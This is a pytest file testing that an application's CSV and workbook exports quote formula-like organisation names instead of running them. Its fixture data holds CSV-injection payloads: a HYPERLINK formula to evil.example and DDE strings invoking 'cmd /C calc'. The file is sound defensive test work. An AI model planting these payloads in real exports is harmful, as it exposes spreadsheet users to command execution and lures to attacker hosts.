"""Exports never run a formula (CSV injection): unions imported with names and codes that a
spreadsheet would take for formulas reach every CSV field and workbook cell as text — through the
CLI (`results --csv`, `coverage --csv`, `export results`, `export sheet`) and every spreadsheet
download of the console — on SQLite and on PostgreSQL."""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

import pytest
from flask import Flask
from openpyxl import load_workbook
from sqlalchemy import select
from sqlalchemy.orm import Session

from chatbot.console.access import create_user
from chatbot.documents.cells import FORMULA_STARTS, csv_field, is_formula_like
from chatbot.store.models import Inspection, Organisation
from rubrics import get_rubric
from tests.test_console_security import Browser

#: Code → name of the hostile organisations: a county and three village unions under it.
COUNTY = ("ZZ", '=HYPERLINK("http://evil.example/?x","点我")')
UNIONS = {
    "-A1": "+SUM(1,2)",  # a code may start with "-": -A1 is a formula too
    "V2": "-2+3+cmd|' /C calc'!A0",
    "V3": "@SUM(1+1)*cmd|' /C calc'!A0",
}
#: Every text above that a spreadsheet would run as a formula (V2 and V3 are harmless codes).
HOSTILE = {text for text in (COUNTY[1], *UNIONS, *UNIONS.values()) if is_formula_like(text)}
IN_RESULTS = HOSTILE - {COUNTY[1]}


def import_file(tmp_path: Path) -> Path:
    path = tmp_path / "orgs.csv"
    with path.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(["code", "name", "rubric", "parent", "members"])
        writer.writerow(["GY", "固原市总工会", "", "", ""])
        writer.writerow([COUNTY[0], COUNTY[1], "", "GY", ""])
        for code, name in UNIONS.items():
            writer.writerow([code, name, "village", COUNTY[0], "12"])
    return path


def csv_problems(text: str) -> tuple[list[str], set[str]]:
    """Fields a spreadsheet would run as a formula; and the hostile texts found, quoted as text."""
    risky, found = [], set()
    for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))):
        for field in row:
            if is_formula_like(field):
                risky.append(field)
            if field.startswith("'") and field[1:] in HOSTILE:
                found.add(field[1:])
    return risky, found


def workbook_problems(data: bytes | Path) -> tuple[list[str], set[str]]:
    """Formula cells of a workbook; and the hostile texts found whole as text cells."""
    book = load_workbook(io.BytesIO(data) if isinstance(data, bytes) else data)
    formulas, found = [], set()
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    formulas.append(f"{sheet.title}!{cell.coordinate}: {cell.value}")
                if isinstance(cell.value, str):
                    found |= {text for text in HOSTILE if text in cell.value}
                    if is_formula_like(cell.value):
                        assert cell.data_type == "s" and cell.quotePrefix, cell.coordinate
    return formulas, found


@pytest.fixture
def hostile(app: Flask, cli: Any, tmp_path: Path) -> None:
    """The hostile county and unions imported through the CLI, in the 2026 campaign."""
    cli("org", "import", str(import_file(tmp_path)))
    cli("campaign", "open", "2026")


def test_the_clis_csv_and_workbooks_hold_no_formula(hostile: None, cli: Any, tmp_path: Path) -> None:
    risky, found = csv_problems(cli("results", "--year", "2026", "--csv"))
    assert not risky and found == IN_RESULTS, (risky, found)
    risky, found = csv_problems(cli("coverage", "--year", "2026", "--csv"))
    assert not risky and found == {COUNTY[1]}, (risky, found)

    results = tmp_path / "results.xlsx"
    cli("export", "results", "--year", "2026", "--out", str(results))
    formulas, found = workbook_problems(results)
    assert not formulas and found == IN_RESULTS, (formulas, found)
    for code, name in UNIONS.items():
        sheet = tmp_path / "sheet.xlsx"
        cli("export", "sheet", f"--org={code}", "--year", "2026", "--out", str(sheet))
        formulas, found = workbook_problems(sheet)
        assert not formulas and name in found, (formulas, found)


def test_every_spreadsheet_download_of_the_console_holds_no_formula(
    hostile: None, app: Flask, db: Session
) -> None:
    with db.begin():
        create_user(db, "GY", "city", "city-password-1")
    ids = db.scalars(
        select(Inspection.id).join(Organisation).where(Organisation.code.in_(list(UNIONS)))
    ).all()
    assert len(ids) == len(UNIONS)
    city = Browser(app)
    city.login("city", "city-password-1")
    downloads = [
        rule
        for rule in app.url_map.iter_rules()
        if rule.rule.endswith((".xlsx", ".csv")) and "GET" in (rule.methods or set())
    ]
    assert len(downloads) >= 3  # results.xlsx, coverage.csv, an inspection's sheet.xlsx
    found: set[str] = set()
    for rule in downloads:
        urls = (
            [rule.rule.replace("<int:inspection_id>", str(i)) for i in ids]
            if "inspection_id" in rule.arguments
            else [
                rule.rule.replace("<int:year>", "2026")
                .replace("<key>", "village")  # a sheet of the standards, in its shipped version
                .replace("<version>", get_rubric("village").version)
            ]
        )
        for url in urls:
            response = city.get(url)
            assert response.status_code == 200, url
            if url.endswith(".csv"):
                risky, shown = csv_problems(response.get_data(as_text=True))
                assert not risky, (url, risky)
            else:
                formulas, shown = workbook_problems(response.data)
                assert not formulas, (url, formulas)
            found |= shown
    assert found == HOSTILE


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_a_text_starting_like_a_formula_is_quoted_and_numbers_stay_numbers(start: str) -> None:
    assert csv_field(f"{start}1+1") == f"'{start}1+1"
    assert csv_field("-3") == "-3" and csv_field("-12.5") == "-12.5" and csv_field("-30.5%") == "-30.5%"
    assert csv_field(-3) == -3 and csv_field("第1社区工会") == "第1社区工会"
